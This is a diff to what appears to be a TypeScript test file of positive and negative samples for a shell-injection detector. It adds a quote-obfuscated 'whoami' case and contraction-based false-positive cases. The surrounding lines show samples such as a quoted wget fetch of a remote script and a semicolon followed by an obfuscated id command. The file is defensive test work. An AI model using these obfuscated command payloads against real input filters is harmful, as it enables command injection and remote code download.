@@ -14,6 +14,7 @@ const positives: string[] = [
   '"whoami"',
   "'wget' http://203.0.113.9/x.sh",
   '"w"here',
+  "w'hoami",
   "x;'i'd",
   "x;'id'",
   "'l's -la",
@@ -168,6 +169,9 @@ const negatives: string[] = [
   '"date" night ideas',
   "'id'",
   '"time" magazine',
+  // A contraction at the value's start, read inside the application's single quote (`i'd` is `id`).
+  "i'd like a refund",
+  "i'd like to return the 'Oak Chair'",
   // Found by probing realistic text: User-Agents, stack traces, markdown, code, lists of tools.
   'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
   'php-curl-class/9.19.0 (+https://github.com/php-curl-class/php-curl-class)',
